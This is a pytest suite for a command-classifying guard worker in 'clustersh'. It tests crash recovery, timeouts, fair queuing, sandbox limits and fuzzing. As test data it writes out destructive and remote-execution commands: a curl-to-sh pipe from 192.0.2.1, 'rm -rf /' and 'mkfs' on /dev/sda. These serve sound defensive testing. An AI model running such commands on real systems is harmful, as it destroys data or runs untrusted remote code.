"""The guard's worker: a real process, which is killed, stopped, crashed and fed nonsense here."""

from __future__ import annotations

import os
import random
import shlex
import signal
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import psutil
import pytest
import pytest_twisted
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from twisted.internet import reactor
from twisted.internet.defer import CancelledError, Deferred, gatherResults
from twisted.internet.task import deferLater
from twisted.logger import LogEvent, globalLogPublisher

from clustersh.coordinator import guard_worker, judging, judging_process
from clustersh.coordinator.guard import Finding, Guard
from clustersh.coordinator.judging import PROGRAM, Judging
from clustersh.wire.jobs import MAX_SCRIPT, BlobRef, Command
from clustersh.wire.problems import Kind, ProblemError

from .guard.tables import BASH, POWERSHELL

pytestmark = pytest.mark.real
LINUX = "linux/amd64"
SCRIPT = Command(script=BlobRef("0" * 64, 1, "x.sh"))
CRASHING = """
import os, signal
from clustersh.coordinator import guard_worker

judge = guard_worker._judge

def fragile(guard, question):
    if b"poison" in question:
        os.kill(os.getpid(), signal.SIGSEGV)
    return judge(guard, question)

guard_worker._judge = fragile
guard_worker.main()
"""
CRASHES = (sys.executable, "-I", "-c", CRASHING)


def shell(text: str) -> Command:
    return Command(shell=text)


async def eventually(look: Callable[[], Any], seconds: float = 30.0) -> Any:
    deadline = time.monotonic() + seconds
    while not (found := look()):
        assert time.monotonic() < deadline, "it did not come true"
        await deferLater(reactor, 0.01)  # type: ignore[arg-type]
    return found


def workers(before: frozenset[int] = frozenset()) -> list[psutil.Process]:
    """Return the workers of this process, but those that were there *before*."""
    found = []
    for child in psutil.Process().children():
        try:
            words = " ".join(child.cmdline())
            if "guard_worker" in words and child.pid not in before and child.status() != psutil.STATUS_ZOMBIE:
                found.append(child)
        except psutil.NoSuchProcess:
            continue
    return found


@asynccontextmanager
async def judged(program: tuple[str, ...] = PROGRAM) -> AsyncIterator[Judging]:
    made = Judging(reactor, program)
    made.start()
    try:
        yield made
    finally:
        await made.stop()


@pytest.fixture
def warnings() -> Iterator[list[str]]:
    """What is logged of workers."""
    found: list[str] = []

    def note(event: LogEvent) -> None:
        if event.get("log_namespace") == "clustersh.coordinator.judging.Judging":
            found.append(str(event["problem"]))

    globalLogPublisher.addObserver(note)
    yield found
    globalLogPublisher.removeObserver(note)


def rules(found: tuple[Finding, ...]) -> list[str]:
    return [finding.rule for finding in found]


@pytest_twisted.ensureDeferred
async def test_the_worker_says_of_every_command_what_the_guard_says() -> None:
    here = Guard()
    async with judged() as judge:
        for rows, platform in ((BASH, LINUX), (POWERSHELL, "windows/amd64"), (BASH[::20], "")):
            for row in rows:
                command = shell(row.command)
                assert await judge.judge(command, None, platform) == here.judge(command, None, platform)
        for command, script, folder in (
            (Command(argv=("rm", "-rf", ".")), None, "/"),
            (SCRIPT, b"\xff\x00\nreboot\n", ""),
            (SCRIPT, b"#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n" + b"#" * MAX_SCRIPT, ""),
            (SCRIPT, None, ""),
            (shell("{\U0009cec7 é; mkfs.ext4 /dev/sda"), None, ""),
        ):
            script = script[:MAX_SCRIPT] if script else script
            assert await judge.judge(command, script, LINUX, folder) == here.judge(command, script, LINUX, folder)


@pytest_twisted.ensureDeferred
async def test_a_worker_that_is_killed_is_replaced_and_its_command_is_asked_again(warnings: list[str]) -> None:
    async with judged() as judge:
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["power"]
        (first,) = workers()
        first.suspend()
        asked = [Deferred.fromCoroutine(judge.judge(shell(text), None, LINUX)) for text in ("reboot", "ls", "halt")]
        first.kill()
        assert [rules(found) for found in await gatherResults(asked)] == [["power"], [], ["power"]]
        (second,) = workers()
        assert second.pid != first.pid
        second.kill()
        await eventually(lambda: workers(frozenset([second.pid])))
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["power"]
        assert len(warnings) == 1, "it is said once"
        assert "signal 9" in warnings[0]


@pytest_twisted.ensureDeferred
async def test_a_command_that_kills_the_worker_counts_as_unparsable_and_takes_no_other_with_it() -> None:
    async with judged(CRASHES) as judge:
        texts = ("reboot", "poison; ls", "rm -rf /", "poison; reboot", "ls", "poison && sh -c 'halt'", "mkfs /dev/sda")
        asked = [Deferred.fromCoroutine(judge.judge(shell(text), None, LINUX)) for text in texts]
        assert [rules(found) for found in await gatherResults(asked)] == [
            *(["power"], [], ["remove-root"], ["unparsable"], [], ["unparsable"], ["disk-format"]),
        ]
        script = b"# poison\n" + b"echo x\n" * 1000
        assert await judge.judge(SCRIPT, script, LINUX) == ()
        assert rules(await judge.judge(SCRIPT, script + b"sudo reboot\n", LINUX)) == ["unparsable"]


@pytest_twisted.ensureDeferred
async def test_a_worker_that_hangs_is_given_up_in_time(monkeypatch: pytest.MonkeyPatch, warnings: list[str]) -> None:
    monkeypatch.setattr(judging, "LIMIT_S", 0.5)
    async with judged() as judge:
        await judge.judge(shell("ls"), None, LINUX)
        (stopped,) = workers()
        stopped.suspend()
        began = time.monotonic()
        asked = [Deferred.fromCoroutine(judge.judge(shell(text), None, LINUX)) for text in ("reboot", "halt", "ls")]
        found = await gatherResults(asked)
        assert [rules(each) for each in found] == [["unparsable"], ["power"], []], "only the one that hung is unparsed"
        assert 0.5 <= time.monotonic() - began < 20
        assert not stopped.is_running()
        assert warnings == ["a command took it more than 0.5 s"]


@pytest_twisted.ensureDeferred
async def test_what_takes_the_worker_too_long_is_given_up_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judging, "LIMIT_S", 0.2)
    async with judged() as judge:
        await judge.judge(shell("ls"), None, LINUX)
        (first,) = workers()
        assert rules(await judge.judge(SCRIPT, b"rm\n" * (MAX_SCRIPT // 3), LINUX)) == ["unparsable"]
        assert not first.is_running()
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["power"]


@pytest_twisted.ensureDeferred
async def test_without_a_worker_names_count_and_it_is_tried_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, warnings: list[str]
) -> None:
    monkeypatch.setattr(judging, "PAUSE_S", 0.05)
    program = tmp_path / "worker"
    async with judged((str(program),)) as judge:
        asked = [Deferred.fromCoroutine(judge.judge(shell(text), None, LINUX)) for text in ("ls", "sudo reboot")]
        assert [rules(found) for found in await gatherResults(asked)] == [[], ["unparsable"]]
        program.write_text(f"#!/bin/sh\nexec {shlex.join(PROGRAM)}\n")
        program.chmod(0o700)
        await eventually(workers)
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["power"]
        assert len(warnings) == 1


@pytest.mark.parametrize(
    ("code", "problem"),
    [
        ("raise SystemExit('no parser here')", "no parser here"),
        ("import os; os.write(1, b'x' * 100); input()", "it answers nonsense"),
        ("import os; os.write(1, bytes(4)); os.read(0, 1); os.write(1, b'\\0\\0\\0\\1x'); input()", "nonsense"),
        (
            "import os; os.write(1, bytes(4)); os.read(0, 1); os.write(1, b'\\0\\0\\0\\1' + bytes(9)); input()",
            "nonsense",
        ),
        ("import time; time.sleep(600)", "not ready"),
    ],
)
@pytest_twisted.ensureDeferred
async def test_whatever_the_worker_does_commands_are_judged(
    code: str, problem: str, monkeypatch: pytest.MonkeyPatch, warnings: list[str]
) -> None:
    monkeypatch.setattr(judging_process, "START_S", 1.0)
    async with judged((sys.executable, "-I", "-c", code)) as judge:
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["unparsable"]
        assert await judge.judge(shell("ls"), None, LINUX) == ()
        assert problem in (await eventually(lambda: warnings))[0]


def asking(judge: Judging, client: str, text: str) -> Deferred[tuple[Finding, ...]]:
    return Deferred.fromCoroutine(judge.judge(shell(text), None, LINUX, client=client))


async def not_now(judge: Judging, client: str, text: str = "ls") -> None:
    with pytest.raises(ProblemError) as caught:
        await judge.judge(shell(text), None, LINUX, client=client)
    assert caught.value.problem.kind is Kind.RATE_LIMITED


@pytest_twisted.ensureDeferred
async def test_a_worker_s_answer_is_remembered_for_the_same_question() -> None:
    async with judged() as judge:
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["power"]
        assert await judge.judge(shell("ls"), None, LINUX) == ()
        (stopped,) = workers()
        stopped.suspend()
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["power"]
        assert await judge.judge(shell("ls"), None, LINUX) == ()
        others = [(shell("reboot"), "windows/amd64", "", ""), (shell("reboot"), LINUX, "/srv", "")]
        others += [(shell("reboot"), LINUX, "", "bash"), (Command(argv=("reboot",)), LINUX, "", "")]
        asked = [Deferred.fromCoroutine(judge.judge(each[0], None, *each[1:])) for each in others]
        await deferLater(reactor, 0)  # type: ignore[arg-type]
        assert not any(each.called for each in asked)
        stopped.resume()
        await gatherResults(asked)


@pytest_twisted.ensureDeferred
async def test_what_no_worker_said_is_not_remembered(monkeypatch: pytest.MonkeyPatch) -> None:
    async with judged() as judge:
        await judge.judge(shell("ls"), None, LINUX)
        (stopped,) = workers()
        stopped.suspend()
        monkeypatch.setattr(judging, "LIMIT_S", 0.05)
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["unparsable"]
        monkeypatch.undo()
        assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["power"]


@pytest_twisted.ensureDeferred
async def test_what_waits_is_bounded_and_each_client_s_part_of_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judging, "MAX_WAITING", 4)
    async with judged() as judge:
        await judge.judge(shell("ls"), None, LINUX)
        (stopped,) = workers()
        stopped.suspend()
        asked = [asking(judge, "ann", f"ls {n}") for n in range(2)]
        await not_now(judge, "ann")
        asked += [asking(judge, "bob", f"ls {n}") for n in range(2)]
        await not_now(judge, "carl")
        asked[-1].addErrback(lambda failure: failure.trap(CancelledError) and ())
        asked.pop().cancel()  # nobody waits for it: there is room again
        asked.append(asking(judge, "carl", "halt"))
        monkeypatch.setattr(judging, "MAX_WAITING", 100)
        monkeypatch.setattr(judging, "MAX_WAITING_BYTES", 4000)
        await not_now(judge, "ann", "ls " + "x" * 2000)
        asked.append(asking(judge, "ann", "ls " + "x" * 1900))
        asked.append(asking(judge, "bob", "ls " + "x" * 1900))
        await not_now(judge, "carl", "ls " + "x" * 1900)
        stopped.resume()
        assert [rules(found) for found in await gatherResults(asked)] == [[], [], [], ["power"], [], []]
        assert judge._shares.all == (0, 0)
        monkeypatch.setattr(judging, "WAIT_S", 0.1)
        stopped.suspend()
        asked = [Deferred.fromCoroutine(judge.judge(shell(f"ps {n}"), None, LINUX)) for n in range(2)]
        with pytest.raises(ProblemError):
            await asked[1]
        stopped.resume()
        assert await asked[0] == ()


@pytest_twisted.ensureDeferred
async def test_clients_take_turns_whatever_one_of_them_has_waiting() -> None:
    order: list[str] = []
    async with judged() as judge:
        await judge.judge(shell("ls"), None, LINUX)
        (stopped,) = workers()
        stopped.suspend()
        clients = ["ann"] * 5 + ["bob"] + ["ann"] * 5 + ["carl"] * 2
        asked = [asking(judge, client, f"ls {n}") for n, client in enumerate(clients)]
        for client, answer in zip(clients, asked, strict=True):
            answer.addCallback(lambda _, client=client: order.append(client))
        stopped.resume()
        await gatherResults(asked)
    assert order == ["ann", "bob", "carl", "ann", "carl", *["ann"] * 8]


@pytest_twisted.ensureDeferred
async def test_slow_commands_of_one_client_keep_no_other_from_being_judged(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judging, "LIMIT_S", 0.5)
    monkeypatch.setattr(judging, "WAIT_S", 10.0)
    slow = CRASHING.replace("os.kill(os.getpid(), signal.SIGSEGV)", "signal.pause()")
    async with judged((*CRASHES[:-1], slow)) as judge:
        await judge.judge(shell("ls"), None, LINUX)
        flood = [asking(judge, "ann", f"poison {n}; ls") for n in range(100)]
        assert rules(await asking(judge, "bob", "reboot")) == ["power"]
        assert sum(each.called for each in flood) <= 1, "after one command of the other's"
        for each in flood:
            each.addErrback(lambda _: None)


@pytest_twisted.ensureDeferred
async def test_clients_take_turns_too_where_nobody_has_an_answer() -> None:
    looked: list[tuple[str, Deferred[None]]] = []

    async def in_thread(function: Callable[..., Any], command: Command, *more: Any) -> Any:
        done: Deferred[None] = Deferred()
        looked.append(((command.shell or "").split()[0], done))
        await done
        return function(command, *more)

    judge = Judging(reactor, in_thread=in_thread)  # it has no worker, as it isn't started
    clients = ["ann", "ann", "ann", "bob", "carl"]
    asked = [asking(judge, client, f"{client} " + "x" * judging.LARGE) for client in clients]
    asked[4].addErrback(lambda failure: failure.trap(CancelledError) and ())
    asked[4].cancel()
    while len(looked) < 4:
        assert sum(not done.called for _, done in looked) == 1
        looked[-1][1].callback(None)
    looked[-1][1].callback(None)
    assert await gatherResults(asked) == [()] * 5
    assert [client for client, _ in looked] == ["ann", "bob", "ann", "ann"]


@pytest.mark.skipif(sys.platform != "linux", reason="what a process has is read from /proc")
@pytest_twisted.ensureDeferred
async def test_the_worker_has_nothing_and_can_open_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("A_SECRET", "x")
    with (Path(__file__)).open() as inherited:
        os.set_inheritable(inherited.fileno(), True)
        async with judged() as judge:
            await judge.judge(shell("reboot"), None, LINUX)
            (worker,) = workers()
            folder = Path(f"/proc/{worker.pid}")
            environ = (folder / "environ").read_bytes().split(b"\0")
            assert {each.partition(b"=")[0].decode() for each in environ} <= {"", *judging_process.KEPT}
            opened = {each.name: str(each.readlink()) for each in (folder / "fd").iterdir()}
            assert sorted(opened) == ["0", "1", "2"]
            assert all(target.startswith("pipe:") for target in opened.values())
            assert os.getsid(worker.pid) == worker.pid
            assert (folder / "cwd").resolve() == Path("/")
            limits = {line[:26].strip(): line[26:].split()[:2] for line in (folder / "limits").read_text().splitlines()}
            for name in ("Max open files", "Max file size", "Max processes"):
                assert limits[name] == ["0", "0"]
            assert limits["Max address space"][0] == str(guard_worker.MEMORY)
            assert limits["Max core file size"][0] == "0"
            assert 1 <= int(limits["Max cpu time"][0]) <= 2 * guard_worker.CPU_S
            assert worker.memory_info().rss < 64 << 20


@pytest_twisted.ensureDeferred
async def test_stopping_ends_the_worker_whatever_it_does() -> None:
    judge = Judging(reactor)
    await judge.stop()
    judge.start()
    await judge.stop()
    judge = Judging(reactor)
    judge.start()
    await judge.judge(shell("ls"), None, LINUX)
    (worker,) = workers()
    worker.suspend()
    asked = Deferred.fromCoroutine(judge.judge(shell("reboot"), None, LINUX))
    await judge.stop()
    assert rules(await asked) == ["unparsable"]
    assert not worker.is_running()
    assert rules(await judge.judge(shell("reboot"), None, LINUX)) == ["unparsable"]


@pytest.fixture(scope="module")
def fuzzed() -> Iterator[Judging]:
    made = Judging(reactor)
    made.start()
    pytest_twisted.blockon(Deferred.fromCoroutine(made.judge(shell("ls"), None, LINUX)))
    yield made
    pytest_twisted.blockon(Deferred.fromCoroutine(made.stop()))


_SIGNS = st.sampled_from(
    [*"{}()[]<>|&;$`'\"\\#*?!~=-\n\t 1ax/", "<<", "${", "$(", "rm ", "é", "日", "\U0001f600", "\U0009cec7"]
)
_TEXTS = st.one_of(st.text(min_size=1, max_size=300), st.lists(_SIGNS, min_size=1, max_size=400).map("".join))


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    text=_TEXTS.filter(lambda text: "\0" not in text), content=st.binary(max_size=2000), platform=st.text(max_size=20)
)
@example(text="{\U0009cec7", content=b"{\xf2\x9c\xbb\x87", platform="")
@pytest_twisted.ensureDeferred
async def test_no_text_and_no_bytes_hurt_the_worker_or_the_coordinator(
    fuzzed: Judging, text: str, content: bytes, platform: str
) -> None:
    (before,) = workers()
    for command, script in ((shell(text), None), (SCRIPT, content), (Command(argv=(text, text)), None)):
        found = await fuzzed.judge(command, script, platform)
        assert found == Guard().judge(command, script, platform)
    (after,) = workers()
    assert after.pid == before.pid


@pytest.mark.parametrize(("program", "text"), [(CRASHES, "poison"), ((*CRASHES[:-1], "1 / 0  # guard_worker"), "ls")])
@pytest_twisted.ensureDeferred
async def test_what_is_stopped_as_soon_as_there_is_an_answer_starts_no_worker_again(
    program: tuple[str, ...], text: str
) -> None:
    before = frozenset(each.pid for each in workers())
    async with judged(program) as judge:
        await judge.judge(shell(text), None, LINUX)
    await deferLater(reactor, 0)  # type: ignore[arg-type]  # what gave the answer goes on only now
    assert judge._again is None or not judge._again.active()
    assert workers(before) == []


@pytest_twisted.ensureDeferred
async def test_a_command_that_is_asked_again_waits_for_its_turn_as_others_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, warnings: list[str]
) -> None:
    """The second worker is not ready in that time: it is left to go on, and the command is not held to be judged."""
    monkeypatch.setattr(judging, "WAIT_S", 2.0)
    monkeypatch.setattr(judging, "LIMIT_S", 30.0)
    code = (
        "import os, sys, time\n"
        f"if os.path.exists({str(tmp_path / 'second')!r}): time.sleep(600)\n"
        f"open({str(tmp_path / 'second')!r}, 'w').close()\n"
        "os.write(1, bytes(4)); os.read(0, 1)  # guard_worker\n"
    )
    before = frozenset(each.pid for each in workers())
    async with judged((sys.executable, "-I", "-c", code)) as judge:
        with pytest.raises(ProblemError, match="too many commands wait"):
            await judge.judge(shell("ls"), None, LINUX)
        assert len(workers(before)) == 1 and len(warnings) == 1


def test_the_worker_starts_where_only_this_coordinator_s_own_path_has_the_modules() -> None:
    """As after ``pip install --user``, or with PYTHONPATH: an isolated Python looks into neither."""
    code = (
        "import subprocess, sys\n"
        "from clustersh.coordinator.judging import PROGRAM\n"
        "sys.exit(subprocess.run(PROGRAM, stdin=subprocess.DEVNULL, timeout=60).returncode)\n"
    )
    python = getattr(sys, "_base_executable", sys.executable)
    environ = {"PYTHONPATH": os.pathsep.join(filter(os.path.isabs, sys.path))}
    done = subprocess.run([python, "-c", code], env=environ, capture_output=True, timeout=60, check=False)
    assert (done.stdout, done.returncode) == (bytes(4), 0), done.stderr.decode()


def test_frames_that_are_none_end_the_worker() -> None:
    rows = [
        b"",
        b"\0",
        b"\0\0\0\0",
        b"\xff\xff\xff\xff" + b"x" * 100,
        b"\0\0\0\x09abc",
        random.Random(1).randbytes(1000),
    ]
    for sent in [*rows, b"\0\0\0\3abc", b"\0\0\0\1\x90"]:
        with psutil.Popen(PROGRAM, stdin=-1, stdout=-1, stderr=-1) as process:
            out, _ = process.communicate(sent, timeout=60)
            assert out == bytes(4), sent


@pytest.mark.skipif(sys.platform != "linux", reason="not every system has these limits")
@pytest.mark.parametrize(
    ("does", "status"),
    [
        ("1 in iter(int, 1)", -signal.SIGXCPU),
        ("bytearray(guard_worker.MEMORY)", 1),
        ("open('/dev/null')", 1),
    ],
    ids=["computes", "grows", "opens"],
)
def test_the_worker_s_own_limits_hold_where_nobody_looks_after_it(does: str, status: int) -> None:
    code = (
        "from clustersh.coordinator import guard_worker\n"
        "guard_worker.CPU_S = 1\n"
        f"guard_worker._judge = lambda guard, question: {does}\n"
        "guard_worker.main()\n"
    )
    with psutil.Popen((sys.executable, "-I", "-c", code), stdin=-1, stdout=-1, stderr=-1) as process:
        out, _ = process.communicate(guard_worker.framed(b"x"), timeout=60)
        assert (out, process.returncode) == (bytes(4), status)
